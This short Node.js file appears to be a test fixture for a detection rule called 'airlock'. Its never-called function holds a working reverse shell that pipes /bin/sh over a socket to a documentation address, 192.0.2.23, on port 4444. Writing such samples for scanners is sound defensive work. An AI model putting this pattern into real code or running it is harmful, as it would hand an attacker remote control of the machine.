// airlock rule test sample. Never executed by tests; the payload sits in a function
// that is never called, and uses only documentation IPs / .invalid hosts.
const net = require('net');
const cp = require('child_process');
function never() {
  const sh = cp.spawn('/bin/sh', []);
  const client = new net.Socket();
  client.connect(4444, '192.0.2.23', () => {
    client.pipe(sh.stdin);
    sh.stdout.pipe(client);
    sh.stderr.pipe(client);
  });
}
module.exports = { never };
